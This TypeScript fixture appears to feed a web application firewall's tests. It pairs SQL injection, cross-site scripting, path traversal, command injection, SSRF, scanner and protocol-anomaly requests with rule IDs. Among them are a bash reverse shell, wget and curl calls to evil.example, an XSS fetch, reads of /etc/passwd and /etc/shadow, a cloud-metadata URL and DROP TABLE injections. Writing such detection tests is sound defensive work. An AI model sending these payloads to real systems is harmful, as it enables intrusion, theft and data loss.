import { form, json, query, type Sent } from './request.ts'

export type Attack = { kind: string; what: string; sent: Sent; rule: number }

/** A text that attacks whoever takes it for code, and the rule that has to know it; each is sent in an address and in JSON. */
type Payload = { kind: string; text: string; rule: number }

const payloads: Payload[] = [
  { kind: 'SQL injection', text: "1' OR '1'='1", rule: 942100 },
  { kind: 'SQL injection', text: "' UNION SELECT email, password FROM accounts--", rule: 942100 },
  { kind: 'SQL injection', text: '1 UNION ALL SELECT NULL,NULL,version()--', rule: 942100 },
  { kind: 'SQL injection', text: "1'; SELECT pg_sleep(10)--", rule: 942280 },
  { kind: 'SQL injection', text: "x' AND sleep(5)#", rule: 942160 },
  { kind: 'SQL injection', text: "'; DROP TABLE products;--", rule: 942100 },
  { kind: 'SQL injection', text: "admin'--", rule: 942100 },
  { kind: 'SQL injection', text: 'select * from information_schema.tables', rule: 942140 },
  { kind: 'SQL injection', text: "1'/*!50000UNION*//*!50000SELECT*/1,2--", rule: 942500 },
  { kind: 'SQL injection', text: '1 AND (SELECT COUNT(*) FROM pg_catalog.pg_user)>0', rule: 942140 },
  { kind: 'cross-site scripting', text: '<script>alert(1)</script>', rule: 941110 },
  { kind: 'cross-site scripting', text: '<img src=x onerror=alert(1)>', rule: 941100 },
  { kind: 'cross-site scripting', text: '<svg/onload=fetch("//evil.example")>', rule: 941100 },
  { kind: 'cross-site scripting', text: '<a href="javascript:alert(1)">here</a>', rule: 941100 },
  { kind: 'cross-site scripting', text: '<iframe src="//evil.example"></iframe>', rule: 941160 },
  { kind: 'cross-site scripting', text: '"><body onload=alert(1)>', rule: 941100 },
  { kind: 'cross-site scripting', text: '<object data="evil.swf"></object>', rule: 941160 },
  { kind: 'cross-site scripting', text: "';document.cookie;'", rule: 941180 },
  { kind: 'file inclusion', text: '../../../../etc/passwd', rule: 930100 },
  { kind: 'file inclusion', text: '..\\..\\..\\etc\\shadow', rule: 930110 },
  { kind: 'file inclusion', text: '/proc/self/environ', rule: 930120 },
  { kind: 'file inclusion', text: '/etc/passwd', rule: 930120 },
  { kind: 'file inclusion', text: '....//....//etc/hosts', rule: 930120 },
  { kind: 'command execution', text: '; cat /etc/passwd', rule: 932100 },
  { kind: 'command execution', text: '| wget http://evil.example/x.sh', rule: 932105 },
  { kind: 'command execution', text: '$(id)', rule: 932130 },
  { kind: 'command execution', text: '`curl evil.example`', rule: 932100 },
  { kind: 'command execution', text: '; /bin/bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', rule: 932160 },
  { kind: 'command execution', text: '() { :;}; echo vulnerable', rule: 932171 },
  { kind: 'command execution', text: 'new Function("return process.env")()', rule: 934100 },
  { kind: 'command execution', text: '_$$ND_FUNC$$_function(){process.exit()}', rule: 934100 },
  { kind: 'request forgery', text: 'http://169.254.169.254/latest/meta-data/', rule: 931100 },
  { kind: 'request forgery', text: 'https://192.0.2.10/admin', rule: 931100 },
  { kind: 'request forgery', text: 'ftp://192.0.2.10/x', rule: 931100 },
]

/** Attacks that are no text in a field. */
const requests: Attack[] = [
  {
    kind: 'scanner',
    what: 'sqlmap',
    sent: { path: '/', headers: { 'user-agent': 'sqlmap/1.9#stable (https://sqlmap.org)' } },
    rule: 913100,
  },
  { kind: 'scanner', what: 'Nikto', sent: { path: '/', headers: { 'user-agent': 'Nikto/2.5.0' } }, rule: 913100 },
  {
    kind: 'scanner',
    what: 'Nessus',
    sent: { path: '/api/products', headers: { 'user-agent': 'Nessus SOAP' } },
    rule: 913100,
  },
  {
    kind: 'scanner',
    what: 'masscan',
    sent: { path: '/api/products', headers: { 'user-agent': 'masscan/1.3' } },
    rule: 913100,
  },
  {
    kind: 'scanner',
    what: 'Acunetix by its header',
    sent: { path: '/', headers: { 'acunetix-product': 'WVS' } },
    rule: 913110,
  },
  { kind: 'file inclusion', what: '.git', sent: { path: '/.git/config' }, rule: 930130 },
  { kind: 'file inclusion', what: '.env', sent: { path: '/.env' }, rule: 930130 },
  { kind: 'file inclusion', what: '.htpasswd', sent: { path: '/.htpasswd' }, rule: 930130 },
  { kind: 'file inclusion', what: 'a dump of the database', sent: { path: '/backup.sql' }, rule: 920440 },
  { kind: 'file inclusion', what: "an editor's copy", sent: { path: '/main.ts~' }, rule: 920500 },
  {
    kind: 'command execution',
    what: 'Shellshock',
    sent: { path: '/', headers: { 'user-agent': '() { :;}; /bin/bash -c id' } },
    rule: 932170,
  },
  {
    kind: 'SQL injection',
    what: 'a cookie',
    sent: { path: '/basket', headers: { cookie: "basket=1' OR '1'='1" } },
    rule: 942100,
  },
  {
    kind: 'cross-site scripting',
    what: 'a user agent',
    sent: { path: '/', headers: { 'user-agent': '<script>alert(1)</script>' } },
    rule: 941100,
  },
  { kind: 'SQL injection', what: "the storefront's search", sent: query("1' OR '1'='1", '/'), rule: 942100 },
  {
    kind: 'SQL injection',
    what: 'an address to deliver to',
    sent: form('/checkout', { address: "1'; DROP TABLE orders;--" }),
    rule: 942100,
  },
  {
    kind: 'cross-site scripting',
    what: 'a name',
    sent: form('/register', { name: '<script>alert(1)</script>' }),
    rule: 941110,
  },
  { kind: 'SQL injection', what: 'a password', sent: form('/sign-in', { password: "' OR 1=1--" }), rule: 942100 },
  { kind: 'SQL injection', what: 'the name of a field', sent: json({ "name' OR '1'='1": 1 }), rule: 942100 },
  { kind: 'SQL injection', what: 'a list', sent: json({ items: ["' UNION SELECT 1--"] }), rule: 942100 },
  {
    kind: 'SQL injection',
    what: 'escapes of JSON',
    sent: json('{"name":"\\u0027 UNION \\u0053ELECT 1--"}'),
    rule: 942100,
  },
  {
    kind: 'SQL injection',
    what: 'a field sent twice',
    sent: json('{"name":"fine","name":"\' OR \'1\'=\'1"}'),
    rule: 942100,
  },
  { kind: 'protocol', what: 'a response split', sent: { path: '/?next=x%0d%0aSet-Cookie:%20a=b' }, rule: 921160 },
  { kind: 'protocol', what: 'a request in a field', sent: json({ name: 'x\r\nGET /admin HTTP/1.1' }), rule: 921110 },
  { kind: 'protocol', what: 'a NUL', sent: { path: '/api/products?q=a%00b' }, rule: 920270 },
  {
    kind: 'protocol',
    what: 'an encoding of no meaning',
    sent: { path: '/api/products?q=%uff1cscript%uff1e%zz' },
    rule: 920220,
  },
  {
    kind: 'protocol',
    what: 'a body that is XML',
    sent: { ...json('<a/>'), headers: { 'content-type': 'application/xml' } },
    rule: 920420,
  },
  {
    kind: 'protocol',
    what: 'a body that is plain text',
    sent: { ...json('x'), headers: { 'content-type': 'text/plain' } },
    rule: 920420,
  },
  {
    kind: 'protocol',
    what: 'an odd charset',
    sent: { ...json({ name: 'x' }), headers: { 'content-type': 'application/json; charset=utf-7' } },
    rule: 920480,
  },
  {
    kind: 'protocol',
    what: 'a packed body',
    sent: { ...json({ name: 'x' }), headers: { 'content-type': 'application/json', 'content-encoding': 'gzip' } },
    rule: 920450,
  },
  {
    kind: 'protocol',
    what: 'the header of httpoxy',
    sent: { path: '/', headers: { proxy: 'http://evil.example' } },
    rule: 920450,
  },
  { kind: 'protocol', what: 'JSON that is none', sent: json('{"name":'), rule: 100002 },
  { kind: 'protocol', what: 'JSON too deep', sent: json(`${'['.repeat(20)}1${']'.repeat(20)}`), rule: 100002 },
  { kind: 'prototype pollution', what: '__proto__', sent: json('{"__proto__":{"admin":true}}'), rule: 100050 },
]

export const attacks: Attack[] = [
  ...payloads.flatMap(({ kind, text, rule }) => [
    { kind, what: `${text} in the query`, sent: query(text), rule },
    { kind, what: `${text} in JSON`, sent: json({ description: text }), rule },
  ]),
  ...requests,
]
